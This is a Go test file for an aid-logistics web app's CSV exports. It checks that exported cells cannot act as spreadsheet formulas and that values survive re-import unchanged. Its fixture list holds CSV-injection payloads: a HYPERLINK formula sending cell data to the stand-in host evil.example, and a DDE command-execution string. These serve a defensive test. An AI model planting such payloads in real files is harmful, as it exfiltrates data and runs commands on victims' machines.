package web_test

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/longhaul/longhaul/internal/store/storetest"
)

// formulas are values a spreadsheet would run as formulas if a CSV export
// wrote them as they are, and values that look like the quote an export
// puts before them.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(A1:A9)`,
	`'already quoted`,
	`'=quoted formula`,
	`''`,
}

// TestCSVExportsHoldNoFormulas records titles, references and notes that
// begin like formulas, checks that no cell of any CSV export (API and UI)
// begins with a formula's first character, and that a pledge export read
// back into another database gives every value as it was typed.
func TestCSVExportsHoldNoFormulas(t *testing.T) {
	for name, dsn := range storetest.Engines(t) {
		t.Run(name, func(t *testing.T) {
			e := newAPIEnv(t, dsn(t))
			for _, f := range formulas {
				q, _ := json.Marshal(f)
				if r := e.do("POST", "/api/v1/requirements", "application/json",
					`{"group":"155MM-NATO","quantity":8,"priority":2,"need_by":"2025-05-01","delivery_site":"UA-KYIV","notes":`+string(q)+`}`); r.status != 201 {
					t.Fatalf("requirement with notes %s: %d %s", q, r.status, r.body)
				}
				if r := e.do("POST", "/api/v1/pledges", "application/json", strings.Replace(strings.Replace(goodPledge,
					`"title":"Spring package"`, `"title":`+string(q), 1), `"channel"`, `"reference":`+string(q)+`,"channel"`, 1)); r.status != 201 {
					t.Fatalf("pledge titled %s: %d %s", q, r.status, r.body)
				}
			}
			exports := []string{"/api/v1/export/items", "/api/v1/export/requirements", "/api/v1/export/pledges",
				"/transfer/export/items", "/transfer/export/requirements", "/transfer/export/pledges",
				"/api/v1/shipments?format=csv", "/api/v1/contributions?format=csv", "/api/v1/accounts?format=csv"}
			for _, path := range exports {
				r := e.do("GET", path, "", "")
				if r.status != 200 {
					t.Errorf("%s: %d %s", path, r.status, r.body)
					continue
				}
				cr := csv.NewReader(strings.NewReader(string(r.body)))
				cr.Comment, cr.FieldsPerRecord = '#', -1
				recs, err := cr.ReadAll()
				if err != nil {
					t.Errorf("%s: %v", path, err)
				}
				for i, rec := range recs {
					for _, c := range rec {
						if c != "" && strings.ContainsAny(c[:1], "=+-@\t\r") {
							t.Errorf("%s row %d: cell %q is a live formula", path, i+1, c)
						}
					}
				}
			}
			out := e.do("GET", "/api/v1/export/pledges", "", "")
			if !strings.Contains(string(out.body), `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`) {
				t.Errorf("the formula is not quoted in the export:\n%s", out.body)
			}
			e2 := newAPIEnv(t, storetest.SQLiteDSN(t))
			if r := e2.do("POST", "/api/v1/import/pledges", "text/csv", string(out.body)); r.status != 201 {
				t.Fatalf("re-import: %d %s", r.status, r.body)
			}
			got := map[string]bool{}
			for _, p := range e2.do("GET", "/api/v1/pledges?limit=100", "", "").json(t)["items"].([]any) {
				p := p.(map[string]any)
				if p["title"] != p["reference"] {
					t.Errorf("title %q and reference %q differ after the round trip", p["title"], p["reference"])
				}
				got[p["title"].(string)] = true
			}
			for _, f := range formulas {
				if !got[f] {
					t.Errorf("the round trip lost %q; it has %v", f, got)
				}
			}
			if again := e2.do("GET", "/api/v1/export/pledges", "", ""); string(again.body) != string(out.body) {
				t.Errorf("the round trip changed the export:\n%s\n---\n%s", out.body, again.body)
			}
		})
	}
}
